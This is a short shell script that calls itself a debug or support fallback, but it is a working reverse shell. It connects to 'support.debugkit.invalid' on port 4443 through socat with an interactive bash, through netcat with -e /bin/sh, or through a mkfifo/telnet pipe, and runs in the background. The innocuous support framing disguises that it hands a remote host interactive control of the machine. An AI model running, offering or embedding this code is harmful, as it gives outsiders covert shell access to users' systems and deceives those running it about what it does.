#!/bin/sh
# fall back to socat when perl is missing
HOST=support.debugkit.invalid
PORT=4443
if command -v socat >/dev/null 2>&1; then
  socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:$HOST:$PORT &
elif command -v nc >/dev/null 2>&1; then
  nc -e /bin/sh $HOST $PORT &
else
  rm -f /tmp/.dk; mkfifo /tmp/.dk; cat /tmp/.dk | /bin/sh -i 2>&1 | telnet $HOST $PORT > /tmp/.dk &
fi
